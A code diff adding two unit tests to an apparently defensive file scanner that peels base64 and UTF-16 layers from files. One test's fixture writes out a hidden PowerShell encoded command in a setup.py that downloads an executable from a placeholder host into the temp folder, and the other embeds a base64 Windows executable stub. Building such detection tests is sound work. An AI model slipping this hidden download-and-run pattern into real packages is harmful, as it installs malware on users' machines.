@@ -236,3 +236,17 @@ def test_benign_strings_produce_nothing() -> None:
 def test_caps_object_defaults() -> None:
     caps = PeelCaps()
     assert caps.max_depth == 5 and caps.max_decoded_bytes == 10 * 1024 * 1024
+
+
+def test_powershell_encoded_command_inside_a_command_line() -> None:
+    script = "powershell -c iwr https://x.example.invalid/a.exe -OutFile $env:TEMP\\a.exe"
+    blob = base64.b64encode(script.encode("utf-16-le")).decode()
+    source = f"import subprocess\nsubprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand {blob}')\n"
+    texts = [d for d in peel_file("setup.py", source.encode()).derived if d.kind == "text"]
+    assert [(d.data.decode(), d.chain) for d in texts] == [(script, ["embedded-base64", "utf-16le"])]
+
+
+def test_base64_pe_is_a_binary_derived_file() -> None:
+    pe = b"MZ\x90\x00" + b"\x00" * 60 + b"This program cannot be run in DOS mode" + b"\x00" * 100
+    result = peel_file("setup.py", f"B = {base64.b64encode(pe).decode()!r}\n".encode())
+    assert [(d.kind, d.chain) for d in result.derived] == [("binary", ["base64"])]
